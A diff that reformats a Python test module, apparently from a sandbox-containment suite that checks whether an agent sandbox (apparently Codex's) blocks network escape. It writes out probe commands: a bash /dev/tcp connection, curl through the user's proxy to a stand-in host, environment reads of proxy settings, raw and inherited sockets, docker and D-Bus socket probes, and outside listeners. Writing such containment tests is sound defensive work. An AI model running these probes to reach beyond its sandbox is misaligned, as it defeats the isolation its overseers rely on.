@@ -5,11 +5,22 @@ from __future__ import annotations
 import socket
 
 from baton.simulate.script import javascript
-from chaos._attempt import Attempt, Judge, Mission, Outcome, Seen, all_of, by_python, by_shell, by_tool, silent, unheard
+from chaos._attempt import (
+    Attempt,
+    Judge,
+    Mission,
+    Outcome,
+    Seen,
+    all_of,
+    by_python,
+    by_shell,
+    by_tool,
+    silent,
+    unheard,
+)
 from chaos._ears import WELCOME
 from chaos._knock import Knocker
 from chaos._lab import Lab
-
 
 _DNS = """
 import socket
@@ -37,16 +48,50 @@ def _out(lab: Lab) -> list[Attempt]:
     udp = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto({token!r}.encode(), ('127.0.0.1', {port}))"
     model = f"import urllib.request\nbody = b'{{\"prompt_cache_key\": \"{token}\", \"input\": []}}'\nprint(urllib.request.urlopen(urllib.request.Request('{lab.model.url}/responses', body, {{'content-type': 'application/json'}}), timeout=3).read())"
     return [
-        by_python("tcp-loopback", "connect to a listener on this machine", tcp.format(host="127.0.0.1", port=ears.tcp, token=token), judge),
-        by_python("tcp-own-address", "connect to it by the machine's own address", tcp.format(host=_own_address(), port=ears.tcp, token=token), judge),
-        by_python("tcp-ipv6", "connect over IPv6", tcp.format(host="::1", port=ears.tcp6, token=token), judge),
-        by_shell("tcp-bash", "connect by the shell's own means", f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{ears.tcp}; echo {token} >&3; head -c 40 <&3'", judge),
-        by_shell("tcp-curl", "fetch by curl, also through the person's proxy", f"curl -m 3 -s http://127.0.0.1:{ears.tcp}/{token}; curl -m 3 -s -x $HTTP_PROXY http://example.invalid/{token}; env | grep -i proxy", judge),
+        by_python(
+            "tcp-loopback",
+            "connect to a listener on this machine",
+            tcp.format(host="127.0.0.1", port=ears.tcp, token=token),
+            judge,
+        ),
+        by_python(
+            "tcp-own-address",
+            "connect to it by the machine's own address",
+            tcp.format(host=_own_address(), port=ears.tcp, token=token),
+            judge,
+        ),
+        by_python(
+            "tcp-ipv6", "connect over IPv6", tcp.format(host="::1", port=ears.tcp6, token=token), judge
+        ),
+        by_shell(
+            "tcp-bash",
+            "connect by the shell's own means",
+            f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{ears.tcp}; echo {token} >&3; head -c 40 <&3'",
+            judge,
+        ),
+        by_shell(
+            "tcp-curl",
+            "fetch by curl, also through the person's proxy",
+            f"curl -m 3 -s http://127.0.0.1:{ears.tcp}/{token}; curl -m 3 -s -x $HTTP_PROXY http://example.invalid/{token}; env | grep -i proxy",
+            judge,
+        ),
         by_python("udp", "send a datagram", udp.format(port=ears.udp, token=token), judge),
-        by_python("unix-path", "connect to a socket in the person's folders", unix.format(address=str(ears.path), token=token), judge),
-        by_python("unix-abstract", "connect to an abstract socket", unix.format(address=f"\0{ears.abstract}", token=token), judge),
+        by_python(
+            "unix-path",
+            "connect to a socket in the person's folders",
+            unix.format(address=str(ears.path), token=token),
+            judge,
+        ),
+        by_python(
+            "unix-abstract",
+            "connect to an abstract socket",
+            unix.format(address=f"\0{ears.abstract}", token=token),
+            judge,
+        ),
         by_python("dns", "ask the machine's name servers", _DNS, silent("dns-answered")),
-        by_python("model-server", "talk to the model's server in the worker's name", model, _no_request_of(token)),
+        by_python(
+            "model-server", "talk to the model's server in the worker's name", model, _no_request_of(token)
+        ),
     ]
 
 
@@ -78,9 +123,25 @@ for family, kind, proto in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_I
 """
     fetch = f"try {{ text(String(await (await fetch('http://127.0.0.1:{lab.ears.tcp}/{token}')).text())) }} catch (error) {{ text('refused: ' + error) }}"
     return [
-        by_python("socket-inherited", "use sockets that Codex left open", inherited, all_of(judge, silent("inherited-socket"))),
-        by_python("socket-raw", "open raw, packet and virtual-machine sockets", other, silent("raw-socket"), bare=False),
-        by_shell("dbus", "reach the session's and the system's message bus", "for s in /run/dbus/system_bus_socket /run/user/*/bus /run/docker.sock /run/containerd/containerd.sock /tmp/.X11-unix/X0; do [ -S $s ] && python3 -c \"import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print('bus-reached')\" $s; done", silent("bus-reached")),
+        by_python(
+            "socket-inherited",
+            "use sockets that Codex left open",
+            inherited,
+            all_of(judge, silent("inherited-socket")),
+        ),
+        by_python(
+            "socket-raw",
+            "open raw, packet and virtual-machine sockets",
+            other,
+            silent("raw-socket"),
+            bare=False,
+        ),
+        by_shell(
+            "dbus",
+            "reach the session's and the system's message bus",
+            "for s in /run/dbus/system_bus_socket /run/user/*/bus /run/docker.sock /run/containerd/containerd.sock /tmp/.X11-unix/X0; do [ -S $s ] && python3 -c \"import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print('bus-reached')\" $s; done",
+            silent("bus-reached"),
+        ),
         by_tool("javascript-fetch", "fetch from the JavaScript tool", judge, javascript(fetch)),
     ]
 
@@ -95,7 +156,9 @@ s = socket.socket(socket.{family}); s.setsockopt(socket.SOL_SOCKET, socket.SO_RE
 s.bind(({address!r}, {knocker.port})); s.listen(); s.settimeout(2)
 c, _ = s.accept(); c.sendall({knocker.token!r}.encode()); c.close(); print('visited')
 """
-        found.append(by_python(f"listen-{name}", "listen, to be reached from outside", listen, _unvisited(knocker)))
+        found.append(
+            by_python(f"listen-{name}", "listen, to be reached from outside", listen, _unvisited(knocker))
+        )
     return found
 
 
